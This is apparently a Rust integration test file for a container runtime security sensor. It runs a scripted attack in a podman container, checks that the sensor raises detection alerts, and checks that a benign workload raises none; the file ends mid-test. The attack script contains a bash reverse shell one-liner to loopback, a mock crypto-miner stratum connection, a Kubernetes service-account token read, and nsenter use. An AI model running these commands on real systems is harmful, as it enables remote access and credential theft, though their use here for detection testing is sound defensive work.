//! `harrier sensor` against real processes and real podman containers (Debian podman + runc,
//! the test image's root filesystem from scripts/build-test-images.sh). Needs root and a kernel
//! that allows BPF; skipped otherwise (failing under HARRIER_REQUIRE_ALL=1).

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use harrier_core::testing::{have, is_root, podman_rootfs, skip};
use serde_json::Value;

use crate::util::Dir;

fn can_run_sensor() -> Option<()> {
    if !is_root() {
        return skip("the sensor tests need root");
    }
    if !Path::new("/sys/kernel/btf/vmlinux").exists() {
        return skip("the kernel has no BTF (/sys/kernel/btf/vmlinux)");
    }
    Some(())
}

/// The test image's root filesystem and a containers.conf for runc.
struct Podman {
    rootfs: PathBuf,
    conf: PathBuf,
}

fn podman(dir: &Dir) -> Option<Podman> {
    let (rootfs, conf) = podman_rootfs(dir.path())?;
    Some(Podman { rootfs, conf })
}

impl Podman {
    /// Runs `script` in a new container named `name`; returns the container's full id.
    fn run(&self, dir: &Dir, name: &str, script: &str) -> String {
        self.run_with(dir, name, &[], &["/bin/bash", "-c", script])
    }

    /// Runs `command` in a new container named `name` with the `extra` options of `podman
    /// run`; returns the container's full id.
    fn run_with(&self, dir: &Dir, name: &str, extra: &[&str], command: &[&str]) -> String {
        let cidfile = dir.path().join(format!("{name}.cid"));
        let out = Command::new("podman")
            .env("CONTAINERS_CONF", &self.conf)
            .args(["run", "--rm", "--network", "none", "--name", name])
            .args(["--label", "io.kubernetes.pod.name=web-1"])
            .args(["--label", "io.kubernetes.pod.namespace=prod"])
            .args(extra)
            .arg("--cidfile")
            .arg(&cidfile)
            .arg("--rootfs")
            .arg(format!("{}:O", self.rootfs.display()))
            .args(command)
            .output()
            .expect("run podman");
        assert!(
            out.status.success(),
            "podman run failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::read_to_string(&cidfile)
            .expect("podman wrote the container id")
            .trim()
            .to_owned()
    }
}

/// A running `harrier sensor`, started and waited for until it says `ready`.
struct Running {
    child: Child,
    events: PathBuf,
}

fn start(dir: &Dir, extra: &[&str], conf: Option<&Path>) -> Running {
    let name: String = extra
        .join("_")
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '-' {
                c
            } else {
                '_'
            }
        })
        .take(100)
        .collect();
    let events = dir.path().join(format!("events-{name}.jsonl"));
    // Other tests run alongside, opening many files: a queue deep enough that a debug build's
    // writer never drops what these tests look for.
    let mut cmd = dir.command(&[
        "sensor",
        "--no-existing",
        "--duration",
        "120",
        "--queue-capacity",
        "65536",
        "--events",
    ]);
    cmd.arg(&events).args(extra);
    if let Some(conf) = conf {
        cmd.env("CONTAINERS_CONF", conf);
    }
    let mut child = cmd
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn harrier sensor");
    let stderr = child.stderr.take().expect("stderr");
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut seen = String::new();
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            seen.push_str(&line);
            seen.push('\n');
            if line == "ready" {
                let _ = tx.send(Ok(()));
            }
        }
        let _ = tx.send(Err(seen));
    });
    match rx.recv_timeout(Duration::from_secs(90)) {
        Ok(Ok(())) => {}
        Ok(Err(stderr)) => panic!("the sensor exited before `ready`:\n{stderr}"),
        Err(_) => {
            let _ = child.kill();
            panic!("the sensor did not say `ready` within 90 s");
        }
    }
    Running { child, events }
}

impl Running {
    /// Waits until an event matching `pred` is in the file; returns it.
    fn wait_for(&self, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
        let until = Instant::now() + Duration::from_secs(30);
        loop {
            let text = std::fs::read_to_string(&self.events).unwrap_or_default();
            if let Some(v) = text
                .lines()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .find(|v| pred(v))
            {
                return v;
            }
            if Instant::now() > until {
                let n = text.lines().count();
                panic!("no {what} among {n} events in {}", self.events.display());
            }
            std::thread::sleep(Duration::from_millis(200));
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn in_container(v: &Value, cid: &str) -> bool {
    v["container"]["full_id"] == cid
}

/// `evt.arg.NAME` of a runtime event (`args` is a list of name, value pairs).
fn arg<'a>(v: &'a Value, name: &str) -> Option<&'a str> {
    v["args"]
        .as_array()?
        .iter()
        .find(|p| p[0] == name)
        .and_then(|p| p[1].as_str())
}

#[test]
fn ebpf_sees_a_shell_file_read_and_connect_in_a_podman_container() {
    let Some(()) = can_run_sensor() else { return };
    let dir = Dir::new();
    let Some(pm) = podman(&dir) else { return };
    let sensor = start(
        &dir,
        &["--collector", "ebpf", "--syscalls", "openat,connect"],
        Some(&pm.conf),
    );
    let name = format!("harrier-sensor-it-{}", std::process::id());
    let cid = pm.run(
        &dir,
        &name,
        // The container lives on, so the sensor asks podman about it before `--rm`.
        "cat /etc/os-release > /dev/null; (echo x > /dev/tcp/127.0.0.1/3333) 2>/dev/null; sleep 3; exit 0",
    );

    let shell = sensor.wait_for("exec of bash in the container", |v| {
        v["type"] == "execve" && in_container(v, &cid) && v["process"]["name"] == "bash"
    });
    let c = &shell["container"];
    assert_eq!(c["id"], &cid[..12]);
    assert_eq!(c["runtime"], "podman");
    assert_eq!(c["name"], name.as_str());
    assert_eq!(shell["k8s"]["pod_name"], "web-1");
    assert_eq!(shell["k8s"]["namespace"], "prod");
    // Complete context: the key is absent (it is written only when true).
    assert!(shell.get("context_incomplete").is_none(), "{shell}");
    assert!(
        shell["process"]["exepath"]
            .as_str()
            .is_some_and(|p| p.ends_with("/bash")),
        "{shell}"
    );
    assert_eq!(shell["process"]["args"][0], "-c");

    let open = sensor.wait_for("open of /etc/os-release by cat", |v| {
        v["type"] == "openat"
            && in_container(v, &cid)
            && v["fd"]["name"] == "/etc/os-release"
            && v["process"]["name"] == "cat"
    });
    assert!(open["res"].as_i64().is_some_and(|r| r >= 0), "{open}");
    assert_eq!(open["process"]["ancestors"][0]["name"], "bash", "{open}");

    let connect = sensor.wait_for("connect to 127.0.0.1:3333", |v| {
        v["type"] == "connect" && in_container(v, &cid) && v["fd"]["name"] == "127.0.0.1:3333"
    });
    assert_eq!(connect["fd"]["kind"], "ipv4");
    assert_eq!(connect["fd"]["server_ip"], "127.0.0.1");
    assert_eq!(connect["fd"]["server_port"], 3333);
    // Nothing listens in the container's own network namespace.
    assert_eq!(connect["res"], -ECONNREFUSED, "{connect}");
}

const ECONNREFUSED: i64 = 111;

#[test]
fn ebpf_sees_unshare_and_nsenter_on_the_host() {
    let Some(()) = can_run_sensor() else { return };
    if !have("unshare") || !have("nsenter") {
        skip::<()>("unshare and nsenter (util-linux) are needed");
        return;
    }
    let dir = Dir::new();
    let sensor = start(
        &dir,
        &["--collector", "ebpf", "--syscalls", "unshare,setns"],
        None,
    );
    let me = std::process::id().to_string();
    assert!(
        Command::new("unshare")
            .args(["--net", "--uts", "true"])
            .status()
            .unwrap()
            .success()
    );
    assert!(
        Command::new("nsenter")
            .args(["--target", &me, "--net", "true"])
            .status()
            .unwrap()
            .success()
    );
    let unshare = sensor.wait_for("unshare(CLONE_NEWNET|CLONE_NEWUTS)", |v| {
        v["type"] == "unshare" && v["process"]["name"] == "unshare"
    });
    let flags: Vec<&str> = arg(&unshare, "flags").unwrap_or("").split('|').collect();
    assert!(
        flags.contains(&"CLONE_NEWNET") && flags.contains(&"CLONE_NEWUTS"),
        "{unshare}"
    );
    assert_eq!(unshare["container"]["id"], "host");
    assert_eq!(unshare["res"], 0);

    let setns = sensor.wait_for("setns by nsenter", |v| {
        v["type"] == "setns" && v["process"]["name"] == "nsenter"
    });
    assert_eq!(arg(&setns, "nstype"), Some("CLONE_NEWNET"), "{setns}");
    let exec = sensor.wait_for("exec of nsenter", |v| {
        v["type"] == "execve" && v["process"]["exe"] == "nsenter"
    });
    assert_eq!(
        exec["process"]["args"],
        serde_json::json!(["--target", me, "--net", "true"])
    );
    assert_eq!(exec["process"]["ppid"], std::process::id());
}

#[test]
fn proc_connector_sees_a_shell_in_a_podman_container() {
    let Some(()) = can_run_sensor() else { return };
    let dir = Dir::new();
    let Some(pm) = podman(&dir) else { return };
    let sensor = start(&dir, &["--collector", "proc-connector"], Some(&pm.conf));
    let name = format!("harrier-sensor-it-pc-{}", std::process::id());
    // The proc connector gives pids only: the shell lives long enough to be read from /proc.
    let cid = pm.run(&dir, &name, "sleep 1; exit 0");
    let shell = sensor.wait_for("exec of bash in the container", |v| {
        v["type"] == "execve" && in_container(v, &cid) && v["process"]["name"] == "bash"
    });
    assert_eq!(shell["container"]["id"], &cid[..12]);
    assert_eq!(shell["container"]["name"], name.as_str());
    assert_eq!(
        shell["process"]["args"],
        serde_json::json!(["-c", "sleep 1; exit 0"])
    );
    let sleep = sensor.wait_for("exec of sleep in the container", |v| {
        v["type"] == "execve" && in_container(v, &cid) && v["process"]["name"] == "sleep"
    });
    assert_eq!(sleep["process"]["ancestors"][0]["name"], "bash", "{sleep}");
}

#[test]
fn strict_mode_names_the_syscalls_the_kernel_does_not_offer() {
    let Some(()) = can_run_sensor() else { return };
    let dir = Dir::new();
    let run = dir.run(&[
        "sensor",
        "--collector",
        "ebpf",
        "--strict",
        "--syscalls",
        "openat,init_module",
        "--duration",
        "0",
        "--no-existing",
    ]);
    // The sensor mounts tracefs when it is not mounted; look only after it ran.
    let tracefs = ["/sys/kernel/tracing", "/sys/kernel/debug/tracing"]
        .iter()
        .map(Path::new)
        .find(|p| p.join("events").is_dir());
    let offered = tracefs.is_some_and(|t| t.join("events/syscalls/sys_enter_init_module").exists());
    if offered {
        assert_eq!(run.code, 0, "{}", run.stderr);
        assert!(run.stderr.lines().any(|l| l == "ready"), "{}", run.stderr);
    } else {
        assert_eq!(run.code, 2, "{}", run.stderr);
        assert!(
            run.stderr.contains("could not attach syscall init_module"),
            "{}",
            run.stderr
        );
        assert!(!run.stderr.lines().any(|l| l == "ready"), "{}", run.stderr);
    }
}

#[test]
fn unknown_syscall_is_a_usage_error() {
    let dir = Dir::new();
    let run = dir.run(&["sensor", "--syscalls", "openat,nosuch", "--duration", "0"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("unknown syscall `nosuch`"),
        "{}",
        run.stderr
    );
}

// The attacks of issue 8, run in one container, and a benign workload in another; the sensor
// evaluates what it sees with the built-in threat profiles and a rule file of the test's own
// (no built-in profile flags a shell by itself: Falco's rule for it needs a terminal).

const ATTACK: &str = r#"
# The listener the miner and the reverse shell reach, on the container's own loopback.
python3 /scenario/listen.py &
sleep 0.5
# Credential access: a service-account token, read with cat.
mkdir -p /var/run/secrets/kubernetes.io/serviceaccount
echo fake-token > /var/run/secrets/kubernetes.io/serviceaccount/token
cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null
# Crypto mining: a program named xmrig talking to a stratum port.
cp /bin/bash /tmp/xmrig
/tmp/xmrig /scenario/stratum.sh
# A namespace tool, in a container given CAP_SYS_ADMIN (entering a pid namespace, nsenter
# forks and waits for its command).
nsenter --target 1 --pid --uts -- sleep 0.3
# A reverse shell (the listener holds the connection half a second).
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; sleep 0.3'
# A package manager, waiting a moment for the dpkg lock another install holds (so that it
# lives long enough for the proc connector, which gives a pid only, to read its command line).
python3 -c 'import fcntl, time; f = open("/var/lib/dpkg/lock-frontend", "w"); fcntl.lockf(f, fcntl.LOCK_EX); time.sleep(0.6)' &
sleep 0.2
apt-get -o DPkg::Lock::Timeout=5 install -y nosuchpackage > /dev/null 2>&1 || true
wait
# Live on, so that the runtime still knows the container when a sensor behind on a loaded
# machine asks about it.
sleep 3
"#;

const STRATUM: &str = r#"exec 3<>/dev/tcp/127.0.0.1/3333
echo '{"id":1,"method":"login","params":{"login":"x"}}' >&3
exec 3>&-
sleep 0.3
"#;

const LISTEN: &str = r#"
import select, socket, time
socks = []
for port in (3333, 4444):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", port))
    s.listen(1)
    socks.append(s)
while socks:
    ready, _, _ = select.select(socks, [], [], 10)
    if not ready:
        break
    for s in ready:
        conn, _ = s.accept()
        time.sleep(0.5)
        conn.close()
        s.close()
        socks.remove(s)
"#;

const BENIGN: &str = r#"
import subprocess, time
for _ in range(5):
    with open("/scenario/benign.py") as f:
        f.read()
    subprocess.run(["cat", "/etc/hostname"], stdout=subprocess.DEVNULL)
    subprocess.run(["sleep", "0.1"])
time.sleep(3)
"#;

const SHELL_RULE: &str = r#"
- rule: Test Shell Spawned in Container
  desc: A shell started in a container.
  condition: evt.type = execve and container.id != host and proc.name in (bash, sh, dash)
  output: Shell in a container (proc.cmdline=%proc.cmdline container.id=%container.id)
  priority: NOTICE
  tags: [test]
"#;

/// What each attack must raise, and whether its condition needs only exec events.
const EXPECTED: &[(&str, bool)] = &[
    ("Test Shell Spawned in Container", true),
    (
        "Harrier Service Account Token Read by Unexpected Process",
        false,
    ),
    ("Harrier Crypto Miner Executed", true),
    ("Harrier Namespace Tool Run in Container", true),
    ("Harrier Namespace Entered from Container", false),
    ("Harrier Reverse Shell Command Executed", true),
    ("Harrier Package Manager Run in Container", true),
];

fn read_alerts(path: &Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

fn of_container<'a>(alerts: &'a [Value], cid: &str) -> Vec<&'a Value> {
    alerts
        .iter()
        .filter(|a| a["output_fields"]["container.id"] == cid[..12])
        .collect()
}

/// Sends `signal` to the sensor and waits (at most 60 s: detaching takes seconds) for it to
/// exit; returns its status and what it wrote on stderr after `ready`.
fn stop_with(sensor: &mut Running, signal: &str) -> std::process::ExitStatus {
    let pid = sensor.child.id().to_string();
    assert!(
        Command::new("kill")
            .args([&format!("-{signal}"), &pid])
            .status()
            .unwrap()
            .success()
    );
    let until = Instant::now() + Duration::from_secs(60);
    loop {
        if let Some(status) = sensor.child.try_wait().unwrap() {
            return status;
        }
        assert!(
            Instant::now() < until,
            "the sensor did not stop on {signal}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Runs the attack and the benign containers under a sensor started with `collector`, stops it
/// with `signal`, and returns (attack alerts, benign alerts, every alert, paths).
struct Outcome {
    alerts: Vec<Value>,
    attack: String,
    benign: String,
    events: PathBuf,
    alerts_path: PathBuf,
    rules: PathBuf,
    stats: Value,
    /// The alerts the webhook received (eBPF run).
    posted: Vec<Value>,
}

fn attack_and_benign(dir: &Dir, pm: &Podman, collector: &str, signal: &str) -> Outcome {
    let scenario = dir.path().join(format!("scenario-{collector}"));
    std::fs::create_dir_all(&scenario).unwrap();
    for (name, text) in [
        ("attack.sh", ATTACK),
        ("stratum.sh", STRATUM),
        ("listen.py", LISTEN),
        ("benign.py", BENIGN),
    ] {
        std::fs::write(scenario.join(name), text).unwrap();
    }
    let rules = dir.write("shell-rule.yaml", SHELL_RULE);
    let alerts_path = dir.path().join(format!("alerts-{collector}.jsonl"));
    let stats_path = dir.path().join(format!("stats-{collector}.json"));
    let mut extra = vec![
        "--collector",
        collector,
        "--rules",
        rules.to_str().unwrap(),
        "--alerts",
        alerts_path.to_str().unwrap(),
        "--stats",
        stats_path.to_str().unwrap(),
        "--hostname",
        "node-it",
    ];
    let baselines = dir.path().join(format!("baselines-{collector}"));
    let baselines_arg = baselines.to_str().unwrap().to_owned();
    let (url, bodies) = crate::watch::webhook_receiver();
    if collector == "ebpf" {
        extra.extend(["--syscalls", "openat,connect,setns", "--webhook", &url]);
    } else {
        // Baselines learn as in `harrier replay --baselines` (nothing is locked: no drift).
        extra.extend(["--baselines", &baselines_arg]);
    }
    let mut sensor = start(dir, &extra, Some(&pm.conf));
    let volume = format!("{}:/scenario:ro", scenario.display());
    let tag = format!("{collector}-{}", std::process::id());
    let attack = pm.run_with(
        dir,
        &format!("harrier-attack-{tag}"),
        &["-v", &volume, "--cap-add", "SYS_ADMIN"],
        &["/bin/bash", "/scenario/attack.sh"],
    );
    let benign = pm.run_with(
        dir,
        &format!("harrier-benign-{tag}"),
        &["-v", &volume],
        &["/usr/bin/python3", "/scenario/benign.py"],
    );
    // Wait for the alerts of the attacks this collector can see, then stop.
    let want: Vec<&str> = EXPECTED
        .iter()
        .filter(|(_, exec_only)| *exec_only || collector == "ebpf")
        .map(|(r, _)| *r)
        .collect();
    let until = Instant::now() + Duration::from_secs(30);
    loop {
        let alerts = read_alerts(&alerts_path);
        let mine = of_container(&alerts, &attack);
        if want.iter().all(|w| mine.iter().any(|a| a["rule"] == *w)) || Instant::now() > until {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    let status = stop_with(&mut sensor, signal);
    assert!(
        status.success(),
        "the sensor exited with {status} on {signal}"
    );
    let stats: Value =
        serde_json::from_str(&std::fs::read_to_string(&stats_path).expect("--stats written"))
            .unwrap();
    // The receiver hands bodies over on a thread of its own: wait for as many as were
    // written (a few may still be on their way when the sensor has exited), then any extra.
    let alerts = read_alerts(&alerts_path);
    let parse =
        |b: String| -> Value { serde_json::from_str(&b).unwrap_or_else(|e| panic!("{e}: {b}")) };
    let mut posted = Vec::new();
    let until = Instant::now() + Duration::from_secs(10);
    while posted.len() < alerts.len() && Instant::now() < until {
        if let Ok(b) = bodies.recv_timeout(Duration::from_millis(100)) {
            posted.push(parse(b));
        }
    }
    posted.extend(bodies.try_iter().map(parse));
    Outcome {
        posted,
        alerts,
        attack,
        benign,
        events: sensor.events.clone(),
        alerts_path,
        rules,
        stats,
    }
}

fn check_alerts(o: &Outcome, collector: &str) {
    let mine = of_container(&o.alerts, &o.attack);
    let rules: Vec<&str> = mine.iter().filter_map(|a| a["rule"].as_str()).collect();
    for (rule, exec_only) in EXPECTED {
        if !exec_only && collector != "ebpf" {
            continue;
        }
        let a = mine.iter().find(|a| a["rule"] == *rule).unwrap_or_else(|| {
            panic!("{collector}: no `{rule}` for the attack container; its alerts: {rules:?}")
        });
        assert_eq!(a["hostname"], "node-it", "{a}");
        assert_eq!(a["output_fields"]["k8s.pod.name"], "web-1", "{a}");
        assert_eq!(a["output_fields"]["k8s.ns.name"], "prod", "{a}");
        assert!(
            a["time"].as_str().is_some() && a["priority"].as_str().is_some(),
            "{a}"
        );
    }
    // The benign workload was seen (its python3, and with eBPF its short-lived `cat`s, are in
    // the events), and raised nothing.
    let events = std::fs::read_to_string(&o.events).unwrap();
    let execs: Vec<Value> = events
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["type"] == "execve" && in_container(v, &o.benign))
        .collect();
    let seen = |name: &str| execs.iter().any(|v| v["process"]["name"] == name);
    assert!(
        seen("python3") && (collector != "ebpf" || seen("cat")),
        "{collector}: the benign container's execs are not all in {}",
        o.events.display()
    );
    let benign = of_container(&o.alerts, &o.benign);
    assert!(
        benign.is_empty(),
        "{collector}: the benign workload raised {benign:?}"
    );
    assert!(
        o.stats["engine"]["evaluated"].as_u64().unwrap() > 0,
        "{}",
        o.stats
    );
    // The first events of each container waited for its metadata, and got it.
    assert!(
        o.stats["late_context"]["completed"].as_u64().unwrap() > 0,
        "{}",
        o.stats
    );
    assert!(o.stats["engine"]["alerts"].as_u64().unwrap() >= mine.len() as u64);
}

#[test]
fn ebpf_attacks_raise_profile_alerts_and_replay_reproduces_them() {
    let Some(()) = can_run_sensor() else { return };
    let dir = Dir::new();
    let Some(pm) = podman(&dir) else { return };
    let o = attack_and_benign(&dir, &pm, "ebpf", "TERM");
    check_alerts(&o, "ebpf");
    let mine = of_container(&o.alerts, &o.attack);
    let miner = mine
        .iter()
        .find(|a| a["rule"] == "Harrier Crypto Miner Executed")
        .unwrap();
    assert_eq!(miner["output_fields"]["proc.name"], "xmrig", "{miner}");
    // From the container's own /etc/passwd.
    assert_eq!(miner["output_fields"]["user.name"], "root", "{miner}");
    let token = mine
        .iter()
        .find(|a| a["rule"] == "Harrier Service Account Token Read by Unexpected Process")
        .unwrap();
    assert_eq!(token["output_fields"]["proc.name"], "cat", "{token}");
    // The miner's connection to 3333 was seen (the pool-port rule leaves loopback out).
    let events = std::fs::read_to_string(&o.events).unwrap();
    assert!(
        events
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .any(|v| v["type"] == "connect"
                && in_container(&v, &o.attack)
                && v["process"]["name"] == "xmrig"
                && v["fd"]["server_port"] == 3333),
        "no connect by xmrig to port 3333 in {}",
        o.events.display()
    );

    // Every alert was also posted to the webhook, as written.
    let mut posted: Vec<String> = o.posted.iter().map(Value::to_string).collect();
    posted.sort();
    let mut written: Vec<String> = o.alerts.iter().map(Value::to_string).collect();
    written.sort();
    assert_eq!(
        posted, written,
        "the webhook did not get the alerts written"
    );

    // `harrier replay` of the events file raises exactly the alerts of the live run.
    let replayed = dir.path().join("replayed.jsonl");
    let run = dir.run(&[
        "replay",
        o.events.to_str().unwrap(),
        "--rules",
        o.rules.to_str().unwrap(),
        "--hostname",
        "node-it",
        "--output",
        replayed.to_str().unwrap(),
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sorted = |p: &Path| {
        let mut v: Vec<String> = read_alerts(p).iter().map(Value::to_string).collect();
        v.sort();
        v
    };
    let live = sorted(&o.alerts_path);
    assert!(!live.is_empty());
    assert_eq!(live, sorted(&replayed), "replay differs from the live run");
}

#[test]
fn proc_connector_attacks_raise_the_exec_based_alerts() {
    let Some(()) = can_run_sensor() else { return };
    let dir = Dir::new();
    let Some(pm) = podman(&dir) else { return };
    let o = attack_and_benign(&dir, &pm, "proc-connector", "INT");
    check_alerts(&o, "proc-connector");
    // The workloads' baselines were written back when the sensor stopped.
    let written: Vec<String> = std::fs::read_dir(dir.path().join("baselines-proc-connector"))
        .unwrap()
        .filter_map(|e| std::fs::read_to_string(e.ok()?.path()).ok())
        .collect();
    assert!(
        written
            .iter()
            .any(|b| b.contains("web-1") && b.contains("learning")),
        "{written:?}"
    );
}

/// A rule on context only the Kubernetes API gives (service account, owner, labels).
const POD_CONTEXT_RULE: &str = r#"
- rule: Test Pod Context
  desc: cat run by the web service account's pods.
  condition: evt.type = execve and proc.name = cat and k8s.pod.sa.name = web-sa
  output: cat in a web pod (sa=%k8s.pod.sa.name owner=%k8s.pod.owner.kind/%k8s.pod.owner.name app=%k8s.pod.label[app] container.id=%container.id)
  priority: WARNING
  tags: [test]
"#;

const LABEL_POLICY: &str = r#"
responses:
  - name: tag-web-pods
    match: {rules: ["Test Pod Context"]}
    actions:
      - label: {key: harrier.io/alert, value: seen}
"#;

/// Everything `harrier sensor` plugs in around the engine, in one run: pod context listed from
/// the (stand-in) API server for the sensor's node, a rule on it, a response action performed
/// through the API server, and the metrics endpoint scraped over HTTPS with a token.
#[test]
fn pod_context_response_and_metrics_around_a_podman_container() {
    use harrier_k8s::cluster::fixture::FixtureServer;
    use serde_json::json;

    if can_run_sensor().is_none() {
        return;
    }
    let dir = Dir::new();
    let Some(pm) = podman(&dir) else {
        return;
    };
    let pod = |name: &str, node: &str, container_id: &str| {
        json!({
            "apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": name, "namespace": "prod", "uid": format!("uid-{name}"),
                         "labels": {"app": "web", "pod-template-hash": "7d9f8c6b5"},
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet",
                             "name": "web-7d9f8c6b5", "uid": "rs-uid", "controller": true}]},
            "spec": {"nodeName": node, "serviceAccountName": "web-sa",
                     "containers": [{"name": "app", "image": "registry.example.com/web:1.0"}]},
            "status": {"phase": "Running", "containerStatuses": [{"name": "app",
                "image": "registry.example.com/web:1.0", "containerID": format!("containerd://{container_id}"),
                "ready": true, "restartCount": 0, "state": {"running": {}}}]}
        })
    };
    // A pod on another node, so that the list the sensor makes at start is served.
    let server = FixtureServer::start(vec![pod("elsewhere-0", "node-b", &"e".repeat(64))]).unwrap();
    let kubeconfig = dir.write("kubeconfig", &server.kubeconfig("fixture"));
    let rules = dir.write("pod-rule.yaml", POD_CONTEXT_RULE);
    let policy = dir.write("policy.yaml", LABEL_POLICY);
    let pki = harrier_serve::testing::Pki::generate("sensor-it").unwrap();
    let files = pki.write(dir.path()).unwrap();
    let token = "it-metrics-token-0123456789";
    let token_file = dir.write("metrics-token", token);
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let addr: std::net::SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    let alerts_path = dir.path().join("pod-alerts.jsonl");
    let trail = dir.path().join("trail.jsonl");
    let stats_path = dir.path().join("pod-stats.json");
    let path = |p: &Path| p.to_str().unwrap().to_owned();
    let args: Vec<String> = vec![
        "--syscalls".into(),
        "openat".into(),
        "--rules".into(),
        path(&rules),
        "--no-builtin-profiles".into(),
        "--alerts".into(),
        path(&alerts_path),
        "--stats".into(),
        path(&stats_path),
        "--kubeconfig".into(),
        path(&kubeconfig),
        "--node-name".into(),
        "node-a".into(),
        "--response".into(),
        path(&policy),
        "--response-log".into(),
        path(&trail),
        "--metrics-tls-cert".into(),
        path(&files.server_cert),
        "--metrics-tls-key".into(),
        path(&files.server_key),
        "--metrics-token-file".into(),
        path(&token_file),
        "--metrics-addr".into(),
        addr.to_string(),
        "--interval".into(),
        "1".into(),
    ];
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let mut sensor = start(&dir, &args, Some(&pm.conf));

    // The container starts, then its pod appears in the API server (as the kubelet reports it
    // once running); the cat comes after the sensor's relist on its first unknown event.
    let name = format!("harrier-pod-{}", std::process::id());
    let cid = pm.run_with(
        &dir,
        &name,
        &["-d"],
        &[
            "/bin/bash",
            "-c",
            "sleep 5; cat /etc/hostname > /dev/null; sleep 3",
        ],
    );
    server.apply(pod("web-1", "node-a", &cid));

    let until = Instant::now() + Duration::from_secs(40);
    let alert = loop {
        let alerts = read_alerts(&alerts_path);
        if let Some(a) = alerts.into_iter().find(|a| a["rule"] == "Test Pod Context") {
            break a;
        }
        if Instant::now() > until {
            let events = std::fs::read_to_string(&sensor.events).unwrap_or_default();
            let cats: Vec<&str> = events.lines().filter(|l| l.contains("\"cat\"")).collect();
            panic!(
                "no pod-context alert; the cat events: {cats:?}\nrequests: {:?}",
                server.requests()
            );
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let output = alert["output"].as_str().unwrap();
    assert!(
        output.contains("sa=web-sa owner=Deployment/web app=web"),
        "{output}"
    );
    assert_eq!(alert["output_fields"]["container.id"], cid[..12]);
    assert_eq!(alert["output_fields"]["k8s.pod.name"], "web-1");

    // The metrics endpoint: TLS and the token required; the rule match is counted.
    let client = harrier_serve::testing::Client::new(&pki.ca, None).unwrap();
    let denied = client.get(addr, "/metrics", None).unwrap();
    assert_eq!(denied.status, 401);
    let scraped = client.get(addr, "/metrics", Some(token)).unwrap();
    assert_eq!(scraped.status, 200, "{}", scraped.body);
    assert!(
        scraped.body.contains("harrier_sensor_events_total{"),
        "{}",
        scraped.body
    );
    assert!(
        scraped.body.contains("Test Pod Context"),
        "{}",
        scraped.body
    );

    let status = stop_with(&mut sensor, "TERM");
    assert!(status.success(), "the sensor exited with {status}");

    // The response: the pod was labelled through the API server, and the trail says so.
    let trail_text = std::fs::read_to_string(&trail).expect("the trail");
    let record: Value = serde_json::from_str(trail_text.lines().next().expect("a record")).unwrap();
    assert_eq!(record["action"], "label", "{record}");
    assert_eq!(record["outcome"], "ok", "{record}");
    assert_eq!(record["target"]["namespace"], "prod", "{record}");
    assert_eq!(record["target"]["pod"], "web-1", "{record}");
    assert!(
        server
            .requests()
            .iter()
            .any(|r| r.starts_with("PATCH /api/v1/namespaces/prod/pods/web-1")),
        "{:?}",
        server.requests()
    );
    assert!(
        server
            .requests()
            .iter()
            .any(|r| r.contains("fieldSelector=spec.nodeName")),
        "the sensor lists its own node's pods: {:?}",
        server.requests()
    );
    // The node, which no rule field exposes yet, is in the recorded events.
    let events = std::fs::read_to_string(&sensor.events).unwrap();
    assert!(
        events
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .any(|v| in_container(&v, &cid) && v["k8s"]["node"] == "node-a"),
        "no event of the container carries its node"
    );
    let stats: Value =
        serde_json::from_str(&std::fs::read_to_string(&stats_path).unwrap()).unwrap();
    assert!(
        stats["engine"]["pod_context_found"].as_u64().unwrap() > 0,
        "{stats}"
    );
}

/// Pod context comes from the first source that answers: the kubelet given with --kubelet,
/// then the API server; with `--kubernetes on`, none answering is an error naming each.
#[test]
fn pod_context_from_the_kubelet_else_the_api_server() {
    use harrier_k8s::cluster::fixture::FixtureServer;
    use serde_json::json;

    let dir = Dir::new();
    let nowhere = "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {server: \"http://127.0.0.1:1\"}\nusers:\n- name: u\n  user: {}\ncontexts:\n- name: c\n  context: {cluster: c, user: u}\ncurrent-context: c\n";
    dir.write("nowhere.kubeconfig", nowhere);
    let run = dir.run(&[
        "sensor",
        "--kubernetes",
        "on",
        "--kubelet",
        "http://127.0.0.1:1",
        "--kubeconfig",
        "nowhere.kubeconfig",
        "--duration",
        "0",
    ]);
    assert_ne!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stderr
            .contains("--kubernetes on: no pod context from the kubelet at http://127.0.0.1:1")
            && run.stderr.contains("; the Kubernetes API: "),
        "{}",
        run.stderr
    );

    // Beyond here the sensor starts its collector.
    if can_run_sensor().is_none() {
        return;
    }
    let pod = json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "web-1", "namespace": "prod", "uid": "uid-web-1"},
